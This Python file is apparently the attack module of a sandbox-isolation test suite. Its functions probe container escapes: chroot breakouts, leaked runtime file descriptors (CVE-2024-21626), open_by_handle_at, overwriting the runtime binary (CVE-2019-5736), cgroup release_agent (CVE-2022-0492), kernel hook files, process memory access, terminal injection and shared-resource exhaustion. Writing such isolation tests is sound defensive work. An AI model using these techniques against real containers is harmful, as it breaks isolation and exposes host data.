"""The attacks. Each is a function that returns what it got hold of, or raises.

Run as `python3 attack.py NAME ARGUMENT…`, in a box or outside of it; prints one
JSON object {"success": bool, "detail": text}. Everything is in this one file so
that it can be handed to a box as an argument: a box needs nothing but python3.

An attack proves success by reading the host's secret (a file whose path and
content only the test knows), or by getting a handle that would lead there. None
of them changes anything of the host even when it succeeds.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import socket
import stat
import struct
import sys
import tempfile
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path):
    with open(path, "rb") as file:
        return file.read(4096).decode(errors="replace")


class Refused(Exception):
    """The attack came to its end without success."""


# ---- leaving the root directory -------------------------------------------


def chroot_fchdir(secret):
    """The classic: a second chroot below the working directory, then '..' without end."""
    place = tempfile.mkdtemp(dir="/tmp")
    outside = os.open("/", os.O_RDONLY)
    os.chroot(place)
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(secret)


def dot_dot(secret):
    """'..' from every directory that can be opened, by name and by fd."""
    links = [f"/proc/{name}/{link}" for name in os.listdir("/proc") if name.isdigit() for link in ("root", "cwd")]
    for start in ("/", "/workspace", "/dev", "/dev/pts", "/dev/shm", "/proc/self/root", *links):
        try:
            fd = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            with open(os.open("../" * 64 + secret[1:], os.O_RDONLY, dir_fd=fd)) as file:
                return file.read()
        except OSError:
            pass
        finally:
            os.close(fd)
    raise Refused("every '..' stays below the root")


def proc_root(secret):
    """The root directories of all processes that can be seen."""
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        for link in ("root", "cwd"):
            try:
                return read(f"/proc/{pid}/{link}{secret}")
            except OSError:
                pass
    raise Refused("no process has another root")


def leaked_fds(secret):
    """CVE-2024-21626: a directory fd of the runtime that was left open."""
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    for pid in ("self", *pids):
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers:
            for path in (f"/proc/{pid}/fd/{number}{secret}", f"/proc/{pid}/fd/{number}/" + "../" * 64 + secret[1:]):
                try:
                    return read(path)
                except OSError:
                    pass
    raise Refused("no fd leads out")


def file_handles(secret):
    """'Shocker': open a host inode by its handle, through any mount that can be opened."""
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + b"\0" * 64  # inode 2: the root of an ext4
    for place in ("/", "/workspace", "/tmp", "/usr"):
        try:
            mount = os.open(place, os.O_RDONLY)
            fd = call(304, mount, handle, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            last = error
            continue
        with open(os.open(secret[1:], os.O_RDONLY, dir_fd=fd)) as file:
            return file.read()
    raise last


def bind_mount(secret):
    """Mounts: a new proc, a bind of the root, the disk itself."""
    place = tempfile.mkdtemp(dir="/tmp")
    last = None
    for arguments in ((b"/", place.encode(), None, 4096, None), (b"proc", place.encode(), b"proc", 0, None),
                      (b"tmpfs", place.encode(), b"tmpfs", 0, None)):
        ctypes.set_errno(0)
        if libc.mount(*arguments) == 0:
            libc.umount2(place.encode(), 2)
            return f"mounted {arguments[0].decode()}"
        last = OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    try:
        return f"fsopen gave {call(430, b'tmpfs', 0)}"
    except OSError:
        raise last from None


def unmask(secret):
    """Takes away what is mounted over parts of /proc and /dev."""
    done = []
    for line in open("/proc/self/mountinfo"):
        point = line.split()[4]
        if point != "/" and point.startswith(("/proc", "/dev", "/tmp")):
            ctypes.set_errno(0)
            if libc.umount2(point.encode(), 2) == 0:
                done.append(point)
    if not done:
        raise Refused("nothing can be unmounted")
    return f"unmounted {done}"


# ---- the runtime itself ---------------------------------------------------


def overwrite_runtime(pid="1"):
    """CVE-2019-5736: write to the program of PID 1 through /proc."""
    path = f"/proc/{pid}/exe"
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        fd = os.open(path, os.O_PATH)
    if pid != "1":
        os.kill(int(pid), 9)
        time.sleep(0.2)  # the control's victim: its program is busy until it is gone
    before = os.readlink(f"/proc/self/fd/{fd}")
    writer = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
    os.close(writer)
    return f"{before} can be written"


def trace_pid_1(pid="1"):
    """Memory of PID 1 by ptrace, process_vm_readv and /proc/PID/mem."""
    number = int(pid)
    got = []
    if libc.ptrace(16, number, None, None) == 0:
        libc.ptrace(17, number, None, None)
        got.append("ptrace")
    try:
        with open(f"/proc/{pid}/maps") as maps:
            address = int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError, IndexError):
        address = 0x400000
    target = ctypes.create_string_buffer(16)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here, there = Vector(ctypes.addressof(target), 16), Vector(address, 16)
    try:
        if call(310, number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 16:
            got.append("process_vm_readv")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/mem", "rb+", buffering=0) as memory:
            memory.seek(address)
            if memory.read(16):
                got.append("mem")
    except OSError:
        pass
    try:
        pidfd = call(434, number, 0)
        for fd in range(10):
            try:
                call(438, pidfd, fd, 0)
                got.append(f"pidfd_getfd {fd}")
                break
            except OSError:
                pass
    except OSError:
        pass
    if not got:
        raise Refused("no way into the memory or fds")
    return f"got {got}"


def join_namespaces(pid="1"):
    """setns into whatever namespace can be opened."""
    got, last = [], None
    for kind in ("mnt", "net", "pid", "uts", "ipc", "user", "cgroup"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            call(308, fd, 0)
            got.append(kind)
        except OSError as error:
            last = error
    if not got:
        raise last
    return f"joined {got}"


def pid_1_socket(path):
    """The control socket of PID 1 must not be reachable from within its box."""
    found = []
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        fields = line.split()
        if len(fields) > 7:
            found.append(fields[7])
    for name in {path, *found}:
        s = socket.socket(socket.AF_UNIX)
        if s.connect_ex(name if not name.startswith("@") else "\0" + name[1:]) == 0:
            return f"connected to {name}"
    raise Refused(f"none of {found} answers")


# ---- the kernel's own hooks -----------------------------------------------


def release_agent():
    """CVE-2022-0492: a release_agent in a cgroup v1 hierarchy runs as root of the host."""
    for top, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            os.close(os.open(os.path.join(top, "release_agent"), os.O_WRONLY))
            return f"{top}/release_agent can be written"
    place = tempfile.mkdtemp(dir="/tmp")
    if libc.mount(b"cgroup", place.encode(), b"cgroup", 0, b"none,name=paddock-escape-test") != 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    try:
        os.close(os.open(f"{place}/release_agent", os.O_WRONLY))
        return "a fresh hierarchy's release_agent can be written"
    finally:
        libc.umount2(place.encode(), 0)
        os.rmdir(place)


def kernel_hooks():
    """Files that make the kernel run a program or obey: opened for writing, not written."""
    opened, last = [], None
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
                 "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger",
                 "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/randomize_va_space", "/proc/sys/user/max_user_namespaces"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError as error:
            last = error
    if not opened:
        raise last
    return f"writable: {opened}"


def kernel_memory():
    """The kernel's memory and symbols."""
    got = []
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"):
        try:
            with open(path, "rb") as file:
                if file.read(16).strip(b"\0"):
                    got.append(path)
        except OSError:
            pass
    try:
        with open("/proc/kallsyms") as file:
            if any(int(line.split()[0], 16) for line in (file.readline() for _ in range(50)) if line.strip()):
                got.append("/proc/kallsyms")
    except OSError:
        pass
    try:
        if call(103, 3, ctypes.create_string_buffer(4096), 4096) > 0:
            got.append("dmesg")
    except OSError:
        pass
    if not got:
        raise Refused("no kernel memory, symbol or message")
    return f"read {got}"


def user_namespace():
    """A user namespace of one's own: the door to most of the kernel's attack surface."""
    child = os.fork()
    if child == 0:
        try:
            call(272, 0x10000000)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    unshare = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if unshare == 0:
        return "unshare(CLONE_NEWUSER)"
    ctypes.set_errno(0)
    child = libc.syscall(*map(ctypes.c_long, (56, 0x10000000 | 17, 0, 0, 0, 0)))
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "clone(CLONE_NEWUSER)"
    arguments = struct.pack("QQQQQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    child = libc.syscall(ctypes.c_long(435), arguments, ctypes.c_long(len(arguments)))
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "clone3(CLONE_NEWUSER)"
    raise OSError(unshare, os.strerror(unshare))


def device_nodes():
    """A node of one's own for the host's disk or its memory. In two places: some machines' /tmp takes none."""
    last = None
    for directory in ("/tmp", "/var/tmp"):
        place = tempfile.mkdtemp(dir=directory)
        path = f"{place}/node"
        try:
            for kind, major, minor in ((stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 3)):
                try:
                    os.mknod(path, kind | 0o600, os.makedev(major, minor))
                    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                    return f"opened device {major}:{minor}"
                except OSError as error:
                    last = error
                finally:
                    if os.path.lexists(path):
                        os.unlink(path)
        finally:
            os.rmdir(place)
    raise last


def raw_sockets():
    """Frames and packets of one's own making."""
    got, last = [], None
    for name, arguments in (("AF_PACKET", (17, 3, 0x300)), ("raw IP", (2, 3, 255)), ("raw ICMP", (2, 3, 1)), ("raw IPv6", (10, 3, 58))):
        try:
            socket.socket(*arguments).close()
            got.append(name)
        except OSError as error:
            last = error
    if not got:
        raise last
    return f"opened {got}"


def keyrings():
    """Kernel keys are not in a namespace: they would be a channel between boxes."""
    serial = call(248, b"user", b"paddock-escape-test", b"x", 1, ctypes.c_long(-1))
    call(250, 3, serial)  # revoke what was added
    return f"added key {serial}"


def terminal_injection():
    """TIOCSTI: typing into somebody's terminal."""
    os.setsid() if os.getpid() != os.getsid(0) else None
    master, slave = os.openpty()
    fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
    for number in (slave, 0, 1, 2):
        try:
            fcntl.ioctl(number, 0x5412, b"x")  # TIOCSTI
            return f"typed into fd {number}"
        except OSError as error:
            last = error
    raise last


def subvolume(place):
    """A btrfs subvolume: its files escape the disk limit, it cannot be removed, and snapshots lack it."""
    name = f"{place}/subvolume"
    for request, length in ((0x5000940E, 8), (0x50009418, 56)):  # SUBVOL_CREATE and its second version
        arguments = bytearray(4096)
        arguments[length:length + 9] = b"subvolume"
        fd = os.open(place, os.O_RDONLY)
        try:
            fcntl.ioctl(fd, request, arguments)
            inode = os.stat(name).st_ino
            os.rmdir(name)
            return f"made a subvolume with inode {inode}"
        except OSError as error:
            last = error
        finally:
            os.close(fd)
    raise last


def ioctl_requests():
    """Requests that reach a file system, a namespace or a device. Those that do something need a structure, which is not given."""
    got = {}
    fd, s = os.open("/", os.O_RDONLY), socket.socket()
    for name, number, target in (("FS_IOC_GETVERSION", 0x80087601, fd), ("FS_IOC_FSGETXATTR", 0x801C581F, fd),
                                 ("FS_IOC_FIEMAP", 0xC020660B, fd), ("BTRFS_IOC_INO_LOOKUP", 0xD0009412, fd),
                                 ("SIOCGSKNS", 0x894C, s.fileno()), ("SIOCGIFSLAVE", 0x8929, s.fileno())):
        buffer = ctypes.create_string_buffer(8192)
        ctypes.set_errno(0)
        if libc.ioctl(target, ctypes.c_ulong(number), buffer) >= 0 or ctypes.get_errno() != 25:
            got[name] = ctypes.get_errno()
    if not got:
        raise Refused("all of them are ENOTTY")
    return f"reached the kernel: {got}"


# ---- pools that all boxes share -------------------------------------------


def until_refused(take, most):
    held, last = [], None
    try:
        while len(held) < most:
            held.append(take())
    except OSError as error:
        last = error
    return held, last


def ptys(most):
    """kernel.pty.max is one number for the host and all boxes."""
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    place = "/dev/pts/ptmx" if os.path.exists("/dev/pts/ptmx") else "/dev/ptmx"
    held, last = until_refused(lambda: os.open(place, os.O_RDWR | os.O_NOCTTY), int(most))
    if len(held) < int(most):
        raise Refused(f"{len(held)} and then {last}")
    return f"{len(held)} ptys"


def aio_contexts(most):
    """fs.aio-max-nr is one number for all."""
    context = ctypes.c_ulong(0)
    call(206, int(most), ctypes.byref(context))
    call(207, context.value)
    return f"a context of {most} events"


def huge_pages(_):
    """vm.nr_hugepages is one pool. Where it is empty the kernel says ENOMEM, which means that it was asked."""
    asked = []
    for name, take in (("mmap", lambda: mmap.mmap(-1, 2 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)),
                       ("shmget", lambda: call(29, 0, 2 << 20, 0o4000 | 0o1000 | 0o600)),
                       ("memfd_create", lambda: call(319, ctypes.c_char_p(b"x"), 4))):
        try:
            take()
            asked.append(name)
        except OSError as error:
            if error.errno != errno.EPERM:
                asked.append(f"{name}: {error}")
    if not asked:
        raise Refused("all three")
    return "reached the kernel: " + ", ".join(asked)


def inotify_instances(most):
    held, last = until_refused(lambda: call(294, 0), int(most))
    if len(held) < int(most):
        raise Refused(f"{len(held)} and then {last}")
    return f"{len(held)} instances"


# ---- others on the same host ----------------------------------------------


def abstract_socket(name):
    """Abstract unix sockets of the host."""
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + name)
    return s.recv(100).decode()


def path_socket(path):
    """A socket file of the host, by every way to its path."""
    for prefix in ("", "/proc/1/root", "/proc/self/root"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(prefix + path)
            return s.recv(100).decode()
        except OSError as error:
            last = error
    raise last


def tcp(port):
    """The daemon's own port, and any other of the host, at all addresses that could be it."""
    for host in ("127.0.0.1", "::1", "10.0.0.1", "172.17.0.1", "169.254.169.254", socket.gethostname()):
        try:
            # Connecting is not reaching: the gate takes every connection, to refuse it.
            with socket.create_connection((host, int(port)), timeout=2) as connection:
                connection.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                answer = b"".join(iter(lambda: connection.recv(4096), b""))
                if b'"status":"ok"' in answer:
                    return f"an answer from {host}"
                last = ConnectionError(f"not the daemon's answer: {answer[:100]}")  # the gate says why it refuses
        except OSError as error:
            last = error
    raise last


def shared_memory(key):
    """System V shared memory of the host."""
    number = libc.shmget(int(key), 0, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0)
    return ctypes.string_at(address, 32).decode()


def set_user_id(program):
    """A set-user-id root program: does it give root of the host, or of the box, to a user?"""
    if os.getuid() == 0:
        os.setgroups([])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.dup2(writer, 1)
        os.execv(program, ["id", "-u"])
    os.close(writer)
    effective = os.read(reader, 100).decode().strip()
    if effective != "0":
        raise Refused(f"effective uid {effective!r}")
    return "effective uid 0"


def foreign_processes(pid):
    """Signals to, and sight of, a process of the host by its host pid."""
    os.kill(int(pid), 0)
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        words = file.read().decode()
    if "paddock-escape-victim" not in words:
        raise Refused(f"pid {pid} is another process here: {words!r}")
    return "the host's process can be seen and signalled"


def directory_by_descriptor(path):
    """A directory of the host arrives as a descriptor: everything that can be done below it, or with it."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o777)
    listener.listen(1)
    listener.settimeout(20)
    connection, _ = listener.accept()
    connection.settimeout(20)
    _, fds, *_ = socket.recv_fds(connection, 1, 3)
    top, terminal, opened = fds
    mine = os.open(os.path.dirname(path), os.O_RDONLY)

    own = os.path.join(os.path.dirname(path), "own")
    with open(own, "w") as file:
        file.write("x")
    ways = {
        "read a file": lambda: os.close(os.open("file", os.O_RDONLY, dir_fd=top)),
        "write a file": lambda: os.close(os.open("file", os.O_WRONLY, dir_fd=top)),
        "truncate a file": lambda: os.truncate(f"/proc/self/fd/{opened}", 1),
        "list": lambda: os.close(os.open(".", os.O_RDONLY | os.O_DIRECTORY, dir_fd=top)),
        "create": lambda: os.close(os.open("new", os.O_WRONLY | os.O_CREAT, dir_fd=top)),
        "mkdir": lambda: os.mkdir("dir", dir_fd=top),
        "fifo": lambda: os.mkfifo("fifo", dir_fd=top),
        "symlink": lambda: os.symlink("x", "link", dir_fd=top),
        "rename": lambda: os.rename("other", "another", src_dir_fd=top, dst_dir_fd=top),
        "link out": lambda: os.link("own", "stolen", src_dir_fd=mine, dst_dir_fd=top),
        "link in": lambda: os.link("file", "stolen", src_dir_fd=top, dst_dir_fd=mine),
        "unlink": lambda: os.unlink("gone", dir_fd=top),
        "rmdir": lambda: os.rmdir("empty", dir_fd=top),
        "terminal": lambda: os.close(os.open(f"/proc/self/fd/{terminal}", os.O_RDWR | os.O_NOCTTY)),
        # Opened neither to read nor to write, for ioctl alone.
        "ask a terminal": lambda: fcntl.ioctl(os.open(f"/proc/self/fd/{terminal}", 3 | os.O_NOCTTY), 0x5413, b"x" * 8),
        "execute": lambda: run_at(top),
    }
    worked = {}
    for name, way in ways.items():
        try:
            way()
            worked[name] = 0
        except OSError as error:
            if error.errno not in (1, 13, 18):  # EPERM, EACCES; EXDEV is what Landlock says of links
                worked[name] = error.errno
    if not worked:
        raise Refused("nothing of it")
    return ", ".join(sorted(worked))


def run_at(top):
    child = os.fork()
    if child == 0:
        try:
            call(322, top, b"program", (ctypes.c_char_p * 2)(b"program", None), (ctypes.c_char_p * 1)(None), 0)
        except OSError as error:
            os._exit(error.errno)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))


def watch(*paths):
    """What others do with files: inotify shows it where two see the same inode."""
    fd, names = call(294, 0o4000), {}
    for path in paths:
        names[call(254, fd, path.encode(), 0x3B)] = path  # access, modify, open, close
    with open("/tmp/watching", "w"):
        pass
    end = time.monotonic() + 20
    while not os.path.exists("/tmp/enough") and time.monotonic() < end:
        time.sleep(0.02)
    seen = set()
    try:
        data, at = os.read(fd, 1 << 20), 0
    except BlockingIOError:
        raise Refused("nothing")
    while at < len(data):
        number, _, _, length = struct.unpack_from("iIII", data, at)
        seen.add(names[number])
        at += 16 + length
    return " ".join(sorted(seen))


def locks(*paths):
    """Files that another holds a lock on."""
    held = []
    for path in paths:
        fd = os.open(path, os.O_RDONLY)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            held.append(path)
    if not held:
        raise Refused("none is locked")
    return " ".join(held)


def chroot_jail(directory):
    """The weakened box of the controls: a chroot and nothing else."""
    os.chroot(directory)
    os.chdir("/")


def main():
    arguments = sys.argv[1:]
    if arguments[0] == "--jail":
        chroot_jail(arguments[1])
        arguments = arguments[2:]
    try:
        detail, success = globals()[arguments[0]](*arguments[1:]), True
    except (OSError, Refused) as error:
        detail, success = f"{type(error).__name__}: {error}", False
    print(json.dumps({"success": success, "detail": str(detail)}))


if __name__ == "__main__":
    main()
